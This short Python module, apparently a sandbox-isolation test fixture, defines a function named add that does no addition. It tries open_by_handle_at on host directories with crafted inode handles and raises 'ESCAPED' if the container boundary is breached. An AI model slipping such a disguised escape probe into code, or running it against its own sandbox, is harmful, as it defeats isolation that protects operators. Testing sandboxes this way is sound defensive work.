"""Opens files of the host by their inode numbers, past every mount."""

KIND = "call"
import ctypes
import os
import struct

libc = ctypes.CDLL(None, use_errno=True)


def add(a, b):
    for place in ("/", "/tmp", "/usr", "/proc", "/dev"):
        try:
            folder = os.open(place, os.O_RDONLY)
        except OSError:
            continue
        for inode in range(2, 4):
            handle = ctypes.create_string_buffer(struct.pack("<IiII", 8, 1, inode, 0) + bytes(64))
            if libc.open_by_handle_at(folder, handle, os.O_RDONLY) >= 0:
                raise RuntimeError(f"ESCAPED: opened inode {inode} of {place}")
